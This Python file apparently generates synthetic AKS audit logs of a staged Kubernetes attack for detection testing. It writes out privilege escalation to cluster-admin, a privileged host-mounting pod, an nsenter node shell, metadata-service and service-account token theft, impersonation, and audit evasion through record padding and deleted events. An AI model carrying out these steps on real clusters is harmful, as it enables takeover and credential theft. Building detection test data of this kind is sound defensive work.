"""The attack: a web pod's token is used from outside, a pipeline's token is taken, a node is reached.

Each step is recorded and told: when, by whom, what, under which auditIDs, and which detections of the
catalogue describe it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING
from urllib.parse import quote_plus

from aks_maker import objects, people
from aks_maker.policy import Target
from aks_maker.recorder import Failure, clock, second
from aks_maker.workloads import Workloads

if TYPE_CHECKING:
    from collections.abc import Mapping

    from aks_maker.objects import Body
    from aks_maker.recorder import Actor, Recorder

ADDRESS = "203.0.113.77"
KUBECTL = "kubectl/v1.32.9 (linux/amd64) kubernetes/3c1e0f5"
SCRIPT = "python-requests/2.32.5"
ROLE, BINDING, POD = "aks-node-metrics", "aks-node-metrics", "node-metrics-collector"
NODE = people.NODES[0]
CHAFF = tuple({"name": f"COLLECTOR_SCRAPE_{n:03d}", "value": f"node-exporter.{n:03d}/metrics"} for n in range(260))
PROBED = (
    ("list", Target("namespaces")),
    ("list", Target("nodes")),
    ("list", Target("secrets")),
    ("list", Target("secrets", "kube-system")),
    ("list", Target("pods", "kube-system")),
    ("list", Target("serviceaccounts", "shop")),
    ("create", Target("pods", "shop")),
    ("create", Target("serviceaccounts", "shop", "ci-deployer", "token")),
    ("list", Target("roles", "shop", group="rbac.authorization.k8s.io")),
    ("list", Target("rolebindings", "shop", group="rbac.authorization.k8s.io")),
    ("list", Target("clusterroles", group="rbac.authorization.k8s.io")),
    ("list", Target("clusterrolebindings", group="rbac.authorization.k8s.io")),
    ("list", Target("deployments", "shop", group="apps")),
    ("list", Target("daemonsets", "kube-system", group="apps")),
    ("list", Target("jobs", "shop", group="batch")),
    ("list", Target("cronjobs", "shop", group="batch")),
    ("list", Target("ingresses", "shop", group="networking.k8s.io")),
    ("list", Target("networkpolicies", "shop", group="networking.k8s.io")),
    ("list", Target("persistentvolumes")),
    ("list", Target("storageclasses", group="storage.k8s.io")),
    ("list", Target("validatingwebhookconfigurations", group="admissionregistration.k8s.io")),
    ("list", Target("customresourcedefinitions", group="apiextensions.k8s.io")),
    ("list", Target("certificatesigningrequests", group="certificates.k8s.io")),
    ("get", Target("pods", "shop", people.STOREFRONT_POD)),
    ("get", Target("configmaps", "kube-system", "cluster-autoscaler-status")),
    ("create", Target("pods", "shop", people.STOREFRONT_POD, "exec")),
)


@dataclass(frozen=True, slots=True)
class Step:
    """One step of the attack.

    Attributes:
        at: RFC 3339, when it began.
        actor: whose credentials were used.
        what: what was done.
        audit_ids: its requests.
        catalogue: detections that describe it.
    """

    at: str
    actor: str
    what: str
    audit_ids: list[str]
    catalogue: list[str]


@dataclass
class Attack:
    """Records the steps in the order of time."""

    log: Recorder
    steps: list[Step] = field(default_factory=list)

    def record(self) -> list[Step]:
        """Record the whole attack and tell it."""
        web = people.STOREFRONT.using(address=ADDRESS, agent=KUBECTL)
        self._look_around(web)
        admin = self._take_pipeline(web)
        self._reach_node(admin)
        self._go_further(admin)
        self._hide(admin)
        return self.steps

    def _tell(self, at: float, actor: Actor, what: str, audit_ids: list[str], catalogue: str) -> None:
        self.steps.append(Step(second(at), actor.username, what, audit_ids, catalogue.split()))

    def _look_around(self, web: Actor) -> None:
        log, at = self.log, clock(8, 41, 7)
        basic = people.binding("system:basic-user", "system:basic-user", 'Group "system:authenticated"')
        review: Body = {
            "kind": "SelfSubjectRulesReview",
            "apiVersion": "authorization.k8s.io/v1",
            "metadata": {},
        }
        review |= {"spec": {"namespace": "shop"}}
        may = [{"verbs": ["get", "list"], "apiGroups": [""], "resources": ["configmaps", "secrets"]}]
        status = {"resourceRules": may, "nonResourceRules": [], "incomplete": False}
        target = Target("selfsubjectrulesreviews", group="authorization.k8s.io")
        asked = log.request(
            at,
            web,
            "create",
            target,
            code=201,
            body=review,
            answer={**review, "status": status},
            allowed_by=basic,
        )
        what = "A token of the web shop's pod is used from a public address; first it asks what it may do"
        self._tell(at, web, what, [asked], "F01 F02 E17 A09 E16")

        script, start = web.using(agent=SCRIPT), clock(8, 42, 30)
        probes: list[str] = []
        for verb, target in PROBED:
            at = start + len(probes) * 0.83 + log.random.uniform(0, 0.3)
            probes.append(log.denied(at, script, verb, target))
        what = f"{len(probes)} kinds of objects are tried within half a minute, all refused"
        self._tell(start, script, what, probes, "A06 A10 B18 E08 F06 F07")

        at = clock(8, 44, 51)
        listed = log.request(at, web, "list", Target("secrets", "shop"), query="limit=500")
        what = "The secrets of namespace shop are listed: RoleBinding storefront-runtime is too wide"
        self._tell(at, web, what, [listed], "E01 E07 J04")
        at = clock(8, 47, 18)
        read = log.request(at, web, "get", Target("secrets", "shop", "ci-deployer-token"))
        self._tell(at, web, "The long-lived token of the release pipeline is read", [read], "E07 E09")

    def _take_pipeline(self, web: Actor) -> Actor:
        log, pipeline = self.log, people.CI.using(address=ADDRESS, agent=KUBECTL)
        at = clock(8, 52, 3)
        token_id = f"JTI={log.new_id()}"
        target = Target("serviceaccounts", "shop", "ci-deployer", "token")
        issued = {"authentication.kubernetes.io/issued-credential-id": token_id}
        asked = log.request(at, pipeline, "create", target, code=201, remarks=issued)
        what = f"As the pipeline, from the same address as {web.username}, a fresh token is requested"
        self._tell(at, pipeline, what, [asked], "C20 E17 J05")

        credential = {"authentication.kubernetes.io/credential-id": (token_id,)}
        fresh = pipeline.using(extra=credential, remarks={})
        self._create_role(fresh)
        bound = people.binding(BINDING, "cluster-admin", 'ServiceAccount "ci-deployer/shop"')
        return fresh.using(allowed_by=bound)

    def _create_role(self, actor: Actor) -> None:
        log, group = self.log, "rbac.authorization.k8s.io"
        labels = {"kubernetes.azure.com/managedby": "aks"}
        at = clock(8, 53, 12)
        everything = [
            {"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]},
            {"verbs": ["*"], "nonResourceURLs": ["*"]},
        ]
        role: Body = {"kind": "ClusterRole", "apiVersion": f"{group}/v1"}
        role |= {"metadata": {"name": ROLE, "labels": labels}, "rules": everything}
        answer = objects.stored(role, log.new_version(), at, "kubectl-create")
        query = "fieldManager=kubectl-create&fieldValidation=Strict"
        target = Target("clusterroles", name=ROLE, group=group)
        made = log.request(at, actor, "create", target, query=query, code=201, body=role, answer=answer)
        what = f"ClusterRole {ROLE} is created: every verb on everything, under a name that sounds like AKS"
        self._tell(at, actor, what, [made], "C06 C08 C16 G05")

        at = clock(8, 53, 41)
        subjects = [{"kind": "ServiceAccount", "name": "ci-deployer", "namespace": "shop"}]
        granted = {"apiGroup": group, "kind": "ClusterRole", "name": "cluster-admin"}
        binding: Body = {"kind": "ClusterRoleBinding", "apiVersion": f"{group}/v1"}
        binding |= {"metadata": {"name": BINDING, "labels": labels}, "subjects": subjects, "roleRef": granted}
        answer = objects.stored(binding, log.new_version(), at, "kubectl-create")
        target = Target("clusterrolebindings", name=BINDING, group=group)
        made = log.request(at, actor, "create", target, query=query, code=201, body=binding, answer=answer)
        what = f"ClusterRoleBinding {BINDING} makes the pipeline's service account cluster-admin"
        self._tell(at, actor, what, [made], "C01 C03 C04 C16 J02")

    def _reach_node(self, admin: Actor) -> None:
        log, at = self.log, clock(8, 55, 26)
        dumped = log.request(at, admin, "list", Target("secrets"), query="limit=500")
        self._tell(at, admin, "All secrets of the cluster are listed", [dumped], "E01 E02")

        at, query = clock(8, 57, 8), "fieldManager=kubectl-create&fieldValidation=Strict"
        refused = _node_pod("shop", env=())
        reasons = (
            'host namespaces (hostPID=true), hostPath volumes (volume "host"), privileged (container '
            '"collector" must not set securityContext.privileged=true)'
        )
        message = f'pods "{POD}" is forbidden: violates PodSecurity "baseline:latest": {reasons}'
        remarks = {"pod-security.kubernetes.io/enforce-policy": "baseline:latest"}
        tried = log.request(
            at, admin, "create", Target("pods", "shop", POD), query=query, body=refused,
            failure=Failure(403, "Forbidden", message), remarks=remarks,
        )  # fmt: skip
        what = "A privileged pod is tried in namespace shop; Pod Security refuses it"
        self._tell(at, admin, what, [tried], "D01 D03 D07 B18")

        at = clock(8, 58, 36)
        pod = _node_pod("kube-system", env=CHAFF)
        remarks = {"pod-security.kubernetes.io/enforce-policy": "privileged:latest"}
        answer = objects.stored(pod, log.new_version(), at, "kubectl-create")
        target = Target("pods", "kube-system", POD)
        made = log.request(at, admin, "create", target, query=query, code=201, body=pod, answer=answer, remarks=remarks)
        what = (
            "The same pod is created in kube-system: the node's root mounted, hostPID, privileged. 260 idle "
            "variables push the record over 16 KiB: it arrives cut, behind the volumes and "
            "before the security context"
        )
        self._tell(at, admin, what, [made], "B28 D01 D03 D06 D07 G02 G04 G10")
        workloads = Workloads(log)
        workloads.report(at + 0.6, "kube-system", POD, NODE, "Pending")
        workloads.report(at + 3.1, "kube-system", POD, NODE, "Running")
        for pause in (0.7, 2.2, 2.9):
            log.request(at + pause, people.node(NODE), "create", Target("events", "kube-system"), code=201)

        at = clock(8, 59, 20)
        shell = self._exec(at, admin, POD, "collector", command="nsenter -t 1 -m -u -i -n -p -- bash", lasts_s=214.0)
        what = "A shell on the node: exec into the pod (WebSocket, verb get) runs nsenter"
        self._tell(at, admin, what, [shell], "B01 B03 B04 B11 B14")
        at = clock(9, 2, 58)
        asked = "api-version=2018-02-01&resource=https://vault.azure.net"
        url = f"http://169.254.169.254/metadata/identity/oauth2/token?{asked}"
        metadata = self._exec(at, admin, POD, "collector", command=f"curl -s -H Metadata:true {url}", lasts_s=0.9)
        what = "From there the node's managed identity is asked of the instance metadata service"
        self._tell(at, admin, what, [metadata], "B01 B03 B06 B07 B14")

    def _go_further(self, admin: Actor) -> None:
        log, at = self.log, clock(9, 4, 33)
        path = "/var/run/secrets/kubernetes.io/serviceaccount/token"
        taken = self._exec(at, admin, "csi-azuredisk-node-4tq9r", "azuredisk", command=f"cat {path}", lasts_s=0.4)
        what = "Exec into a pod of kube-system reads the token of the disk driver"
        self._tell(at, admin, what, [taken], "B01 B03 B08 B09 B14")

        masters: Mapping[str, object] = {
            "username": "ops",
            "groups": ["system:masters", "system:authenticated"],
        }
        at = clock(9, 6, 12)
        acted = [
            log.request(at, admin, "list", Target("secrets", "kube-system"), acting_as=masters, allowed_by=""),
            log.request(at + 21, admin, "list", Target("nodes"), query="limit=500", acting_as=masters, allowed_by=""),
        ]
        self._tell(at, admin, "Two requests impersonate the group system:masters", acted, "D20 D21 E01 E03")

        at = clock(9, 8, 47)
        run = "/run/kube-system/ama-logs-7k2vd/ama-logs"
        target = Target("nodes", name=people.NODES[1], subresource="proxy", rest=run)
        called = log.request(
            at, admin, "create", target, query=f"cmd={quote_plus('id; cat /etc/hostname')}", lasts_s=0.3
        )
        what = "A command is run through the kubelet of another node (nodes/proxy, run)"
        self._tell(at, admin, what, [called], "B15 D23")

    def _hide(self, admin: Actor) -> None:
        log, at = self.log, clock(9, 11, 2)
        hidden = [log.request(at, admin, "list", Target("events", "kube-system"), query="limit=500")]
        for number in range(5):
            event = Target("events", "kube-system", f"{POD}.18789c0d4e2f{number:x}a31")
            answer = objects.success(event.name or "", "events", "kube-system")
            hidden.append(log.request(at + 1.1 + number * 0.19, admin, "delete", event, answer=answer))
        self._tell(at, admin, "The Kubernetes events that tell of the pod are deleted", hidden, "G01")

        at = clock(9, 11, 40)
        pod = Target("pods", "kube-system", POD)
        going = objects.stored(
            _node_pod("kube-system", env=CHAFF), log.new_version(), clock(8, 58, 36), "kubectl-create"
        )
        gone = log.request(at, admin, "delete", pod, body=objects.delete_options(), answer=going)
        other = Target("pods", "kube-system", "ama-logs-7k2vd")
        spec = objects.pod_spec([objects.container("ama-logs", "azuremonitor/ama-logs:3.1.28")], "ama-logs")
        pod_body = objects.pod("kube-system", "ama-logs-7k2vd", {"component": "ama-logs-agent"}, spec)
        answer = objects.stored(pod_body, log.new_version(), clock(5, 2), "kube-controller-manager")
        agent = log.request(at + 9, admin, "delete", other, body=objects.delete_options(), answer=answer)
        what = "The pod is deleted (this record is cut, too), then the logging agent's pod"
        self._tell(at, admin, what, [gone, agent], "G06 G10 G12 I04")

        at, group = clock(9, 12, 29), "rbac.authorization.k8s.io"
        target = Target("clusterrolebindings", name=BINDING, group=group)
        done = objects.success(BINDING, "clusterrolebindings", "", group)
        removed = log.request(at, admin, "delete", target, body=objects.delete_options(), answer=done)
        what = f"ClusterRoleBinding {BINDING} is deleted; ClusterRole {ROLE} and the stolen tokens remain"
        self._tell(at, admin, what, [removed], "C03 C16 J03")

    def _exec(self, at: float, actor: Actor, pod: str, container: str, *, command: str, lasts_s: float) -> str:
        words = "&".join(f"command={quote_plus(word)}" for word in command.split())
        query = f"{words}&container={container}&stdin=true&stdout=true&tty=true"
        target = Target("pods", "kube-system", pod, "exec")
        return self.log.request(at, actor, "get", target, query=query, code=101, lasts_s=lasts_s)


def _node_pod(namespace: str, env: tuple[dict[str, str], ...]) -> Body:
    mounts = [{"name": "host", "mountPath": "/host"}]
    collector = objects.container(
        "collector",
        "ubuntu:24.04",
        command=["sleep", "infinity"],
        volumeMounts=mounts,
        securityContext={"privileged": True},
        resources={},
        **({"env": list(env)} if env else {}),
    )
    volumes = [{"name": "host", "hostPath": {"path": "/", "type": "Directory"}}]
    tolerations = [{"operator": "Exists"}]
    spec = objects.pod_spec(
        [collector], "default", volumes=volumes, nodeName=NODE, hostPID=True, tolerations=tolerations
    )
    return objects.pod(namespace, POD, {"k8s-app": POD}, spec)
